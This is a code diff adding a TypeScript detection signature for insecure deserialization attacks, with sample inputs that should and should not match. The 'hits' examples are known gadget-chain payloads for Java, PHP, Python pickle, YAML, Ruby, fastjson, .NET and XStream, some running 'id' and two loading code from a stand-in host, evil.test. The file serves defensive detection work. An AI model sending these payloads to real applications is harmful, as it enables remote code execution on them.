@@ -1,0 +1,53 @@
+import type { Reading } from '../readings/reading.ts';
+import { binaryStream } from '../serialized/binary-streams.ts';
+import { textFormat } from '../serialized/text-formats.ts';
+import type { Finding, Signature } from '../signature.ts';
+
+const SHORTEST = 6;
+
+/** Serialized objects of a programming language where an application expects data. */
+export const deserialization: Signature = {
+  type: 'deserialization',
+  mitre: 'T1190',
+  impact: [30, 40],
+  examples: {
+    hits: [
+      'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
+      'aced0005737200116a6176612e7574696c',
+      'O:8:"stdClass":1:{s:1:"a";i:1;}',
+      'a:1:{i:0;O:10:"\\Foo\\Bar":0:{}}',
+      'AAEAAAD/////AQAAAAAAAAAMAgAAAFdT',
+      "cos\nsystem\n(S'id'\ntR.",
+      'gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU',
+      '!!python/object/apply:os.system ["id"]',
+      '--- !ruby/object:Gem::Installer\ni: x',
+      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.test/"]]]]',
+      '{"rce":"_$$ND_FUNC$$_function(){return 1}()"}',
+      {
+        body: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://evil.test/a"}',
+        contentType: 'application/json',
+      },
+      {
+        body: '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
+        contentType: 'application/json',
+      },
+      '<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>',
+    ],
+    misses: [
+      'a:2:{s:1:"a";i:1;s:1:"b";i:2;}',
+      { query: '__VIEWSTATE=%2FwEPDwUKMTY1NDU2MTA1MmRk' },
+      { body: '{"@type":"Person","@context":"https://schema.org"}', contentType: 'application/json' },
+      { body: '{"$type":"Shop.Orders.Order, Shop.Orders","id":"1"}', contentType: 'application/json' },
+      'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln',
+      'at java.lang.Runtime.exec(Runtime.java:620)',
+      'Wow!! really, O:8 or so',
+      '10:30:{open}',
+    ],
+  },
+  couldMatch({ text }: Reading): boolean {
+    return text.length >= SHORTEST;
+  },
+  match(reading: Reading): Finding | null {
+    return binaryStream(reading) ?? textFormat(reading);
+  },
+};
